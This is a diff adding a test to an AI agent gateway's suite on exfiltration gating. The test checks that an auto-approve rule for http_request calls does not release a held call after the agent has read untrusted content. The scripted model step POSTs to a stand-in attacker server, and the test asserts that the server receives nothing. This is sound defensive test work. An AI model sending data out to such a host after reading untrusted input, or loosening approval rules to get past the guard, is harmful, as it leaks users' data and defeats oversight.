@@ -248,6 +248,35 @@ describe('exfiltration gating and untrusted content, through real runs', () => {
     }
   });
 
+  it('an approval rule that lets http_request calls run does not lift the hold after untrusted input', async () => {
+    const gateway = await startGateway(claude, env());
+    try {
+      await request(gateway.gw.url)
+        .post('/api/approval-rules')
+        .set(gateway.auth)
+        .send({
+          toolName: 'http_request',
+          riskLevel: 'low',
+          requireApproval: true,
+          timeoutSeconds: 60,
+          timeoutAction: 'approve',
+          autoApprove: { url: '*' },
+        })
+        .expect(200);
+      claude.script(readSource(), get(`${attacker.url}/?q=ruled`, { method: 'POST', body: 'x' }), { text: 'No.' });
+      const { runId } = await gateway.submit({ message: 'Go' });
+      const held = await nextHold(gateway, runId, new Set());
+      // The rule would auto-approve (and approve on timeout); the guard still holds, and rejects on timeout.
+      expect(held).toMatchObject({ riskLevel: 'high', timeoutAction: 'reject' });
+      expect(held.reason).toMatch(/^the run has read untrusted content \(outside data from http_request\)/);
+      await decide(gateway, held, 'reject');
+      await gateway.waitForRun(runId);
+      expect(attacker.requests).toEqual([]);
+    } finally {
+      await gateway.gw.close();
+    }
+  });
+
   it('EXFILTRATION_GUARD=off holds no reading call; strict holds every request to an untrusted host', async () => {
     const off = await startGateway(claude, env({ EXFILTRATION_GUARD: 'off' }));
     try {
